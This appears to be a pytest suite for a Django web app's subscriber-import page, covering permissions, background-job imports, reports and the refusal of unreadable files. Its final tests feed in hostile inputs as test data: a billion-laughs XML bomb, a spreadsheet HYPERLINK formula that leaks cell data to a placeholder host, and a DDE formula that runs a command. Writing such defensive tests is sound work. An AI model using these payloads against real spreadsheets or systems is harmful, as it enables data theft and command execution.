"""The subscriber import page: administrators upload a file, a background job (the
worker) checks and imports it with progress, then the report of rows read, added,
updated, duplicates and rejected rows, downloadable as CSV. Files that cannot be
imported are refused on the form and write nothing."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.test import Client

from resilnet.alerts import import_views
from resilnet.alerts.models import Subscriber, SubscriberImport, SubscriberStagedChunk
from resilnet.catalog.tests import hostile_files as hostile
from resilnet.core.models import AuditEvent, Job, Role

pytestmark = pytest.mark.django_db(transaction=True)  # the worker commits as in production

URL = "/alerts/subscribers/import/"
GOOD = (
    "msisdn,language,consent_source\n"
    "0712345678,fr,clinic sign-up\n"
    "+254733000111,,\n"
    "0712345678,en,\n"  # the first row's number again
    "+250788123456,,\n"  # Rwanda's, in a Kenyan import
    "0722000222,sw,\n"  # no such language
)


def upload(client, content: bytes | str, name="subscribers.csv", **fields):
    data = io.BytesIO(content.encode() if isinstance(content, str) else content)
    data.name = name
    values = {"region": "KE", "operator": "Safaricom", "language": "en", "mode": "valid-rows"}
    return client.post(URL, values | fields | {"file": data})


def work():
    call_command("run_worker", "--batch", "--interval", "0")


def download(client, job) -> list[list[str]]:
    response = client.get(f"/jobs/{job.pk}/download")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def refused(response, message: str) -> None:
    assert response.status_code == 200  # the form again, with the error
    assert message in response.content.decode()
    assert not Job.objects.exists()
    assert not Subscriber.objects.exists()
    assert not SubscriberImport.objects.exists()


# Who may import -------------------------------------------------------------------------


def test_anonymous_people_are_sent_to_log_in(client, operator):
    for response in (client.get(URL), upload(client, GOOD)):
        assert response.status_code == 302
        assert "login" in response["Location"]
    assert client.get(f"{URL}1/report/").status_code == 302
    assert not Job.objects.exists()


@pytest.mark.parametrize("role", [Role.ALERT_APPROVER, Role.ALERT_AUTHOR, Role.ANALYST])
def test_roles_that_only_view_audiences_may_not_import(client, make_user, operator, role):
    client.force_login(make_user("vera", role))
    assert client.get(URL).status_code == 403
    assert upload(client, GOOD).status_code == 403
    assert client.get("/alerts/subscribers/").status_code == 200
    assert URL not in client.get("/alerts/subscribers/").content.decode()
    assert not Job.objects.exists()
    assert not Subscriber.objects.exists()


def test_the_form_needs_its_csrf_token(admin_user, operator):
    client = Client(enforce_csrf_checks=True)
    client.force_login(admin_user)
    assert upload(client, GOOD).status_code == 403
    assert not Job.objects.exists()


# A good file, through the page and the worker ---------------------------------------------


def test_a_file_is_imported_by_the_worker_and_reported(client, admin_user, operator):
    client.force_login(admin_user)
    assert URL in client.get("/alerts/subscribers/").content.decode()  # the link to the page
    response = upload(client, GOOD)
    assert response.status_code == 302
    job = Job.objects.get()
    assert response["Location"] == f"{URL}{job.pk}/report/"
    waiting = client.get(response["Location"]).content.decode()
    assert 'id="job-progress"' in waiting  # the job's progress until the worker is done
    assert not Subscriber.objects.exists()

    work()
    job.refresh_from_db()
    assert job.state == "succeeded", job.message
    assert sorted(Subscriber.objects.values_list("msisdn", "language", "consent_source")) == [
        ("+254712345678", "fr", "clinic sign-up"),
        ("+254733000111", "en", "import subscribers.csv"),
    ]
    page = client.get(response["Location"]).content.decode()
    counts = {"total": 5, "created": 2, "updated": 0, "duplicates": 1, "rejected": 3}
    assert {k: job.result[k] for k in counts} == counts
    for label, value in (("Rows read", 5), ("Added", 2), ("Duplicates in the file", 1)):
        assert f"<dt>{label}</dt><dd>{value}</dd>" in page
    assert "the same number as row 2" in page
    assert "a number of RW, not KE" in page
    assert "788123456" not in page  # the rejected number, in no form
    assert download(client, job) == [
        ["row", "column", "reason"],
        ["4", "msisdn", "the same number as row 2"],
        ["5", "msisdn", "a number of RW, not KE"],
        ["6", "language", "not one of ar, zh-hans, en, fr, ru, es"],
    ]
    batch = SubscriberImport.objects.get()
    assert (batch.job_id, batch.actor_id, batch.created) == (job.pk, admin_user.pk, 2)
    audit = AuditEvent.objects.get(object_type__endswith="subscriberimport")
    assert audit.after["created"] == 2


def test_importing_again_updates_and_adds_nobody_twice(client, admin_user, operator):
    client.force_login(admin_user)
    upload(client, GOOD)
    upload(client, "msisdn,language\n0712345678,es\n0733000111,en\n0711000999,en\n")
    work()
    second = Job.objects.order_by("pk").last()
    assert (second.result["created"], second.result["updated"]) == (1, 1)
    assert second.result["unchanged"] == 1
    assert Subscriber.objects.count() == 3
    page = client.get(f"{URL}{second.pk}/report/").content.decode()
    assert "<dt>Updated</dt><dd>1</dd>" in page
    assert "No row was rejected." in page


def test_all_or_nothing_writes_nothing_when_a_row_is_rejected(client, admin_user, operator):
    client.force_login(admin_user)
    upload(client, GOOD, mode="all-or-nothing")
    work()
    job = Job.objects.get()
    assert (job.state, job.result["rejected"], job.result["written"]) == ("succeeded", 3, False)
    assert not Subscriber.objects.exists()
    assert "Nothing was written" in client.get(f"{URL}{job.pk}/report/").content.decode()


def test_another_administrators_report_is_theirs(client, admin_user, make_user, operator):
    client.force_login(admin_user)
    upload(client, GOOD)
    work()
    job = Job.objects.get()
    other = Client()
    other.force_login(make_user("ike", Role.ADMINISTRATOR))
    assert other.get(f"{URL}{job.pk}/report/").status_code == 200  # administrators see jobs
    assert client.get(f"{URL}{job.pk + 1}/report/").status_code == 404


# Files that cannot be imported --------------------------------------------------------------


def test_a_file_over_the_limit_is_refused(client, admin_user, operator, monkeypatch):
    monkeypatch.setattr(import_views, "MAX_UPLOAD_BYTES", 20)
    client.force_login(admin_user)
    refused(upload(client, GOOD), "The file is larger than 0 MB: import it with the command line.")


@pytest.mark.parametrize(
    ("content", "name", "message"),
    [
        (bytes(range(256)) * 8, "subscribers.csv", "is a NUL: not a text file"),
        (b"\xff\xfe\xfa junk \xc3\x28\n", "subscribers.csv", "is not UTF-8 text"),
        (b"PK\x03\x04" + bytes(200), "subscribers.csv", "is a NUL"),
        (b"name,operator\nAmina,Safaricom\n", "subscribers.csv", "no msisdn column"),
        (b"", "subscribers.csv", "The submitted file is empty."),
        (b"msisdn\n0712345678\n", "subscribers.exe", "cannot tell the format"),
        (b"not a zip at all", "subscribers.xlsx", "not a readable XLSX workbook"),
        (hostile.billion_laughs(), "subscribers.xlsx", "declares a DTD or entities"),
    ],
    ids=["binary", "not-utf8", "zip-as-csv", "wrong-columns", "empty", "exe", "bad-xlsx", "dtd"],
)
def test_files_that_cannot_be_read_are_refused_on_the_form(
    client, admin_user, operator, content, name, message
):
    client.force_login(admin_user)
    refused(upload(client, content, name=name), message)


def test_a_file_without_operators_needs_the_rows_operator(client, admin_user, operator):
    client.force_login(admin_user)
    refused(
        upload(client, GOOD, operator=""),
        "The file has no operator column: choose the rows&#x27; operator.",
    )


def test_a_wrong_region_is_refused(client, admin_user, operator):
    client.force_login(admin_user)
    refused(upload(client, GOOD, region="XX"), "Not a region code")


def test_junk_after_a_good_header_fails_the_job_and_writes_nothing(client, admin_user, operator):
    client.force_login(admin_user)
    # Past the first megabyte, which the form reads for the header.
    good = b"msisdn,note\n" + (b"0712345678," + b"x" * 100 + b"\n") * 12_000
    assert upload(client, good + b"\x00\x01\x02junk\n").status_code == 302
    work()
    job = Job.objects.get()
    assert job.state == "failed"
    assert job.message.startswith(f"Unusable file: byte {len(good):,} is a NUL")
    assert job.message in client.get(f"{URL}{job.pk}/report/").content.decode()
    assert not Subscriber.objects.exists()
    batch = SubscriberImport.objects.get()  # kept as the record of an import discarded
    assert (batch.state, batch.job_id) == (SubscriberImport.State.DISCARDED, job.pk)
    assert not SubscriberStagedChunk.objects.exists()


def test_formula_cells_are_rejected_and_reported_as_plain_text(client, admin_user, operator):
    client.force_login(admin_user)
    content = (
        "msisdn,operator,area\n"
        '"=HYPERLINK(""http://x.example/?""&A1)",Safaricom,\n'
        "0712345678,=cmd|' /C calc'!A0,\n"
        "0712345679,Safaricom,@SUM(1+1)\n"
        "+254712345670,-1+1,\n"
    )
    upload(client, content, mode="all-or-nothing")
    work()
    job = Job.objects.get()
    assert (job.state, job.result["rejected"]) == ("succeeded", 4)
    assert not Subscriber.objects.exists()
    rows = download(client, job)
    assert [r[:2] for r in rows[1:]] == [
        ["2", "msisdn"],
        ["3", "operator"],
        ["4", "area"],
        ["5", "operator"],
    ]
    for cell in (c for r in rows for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
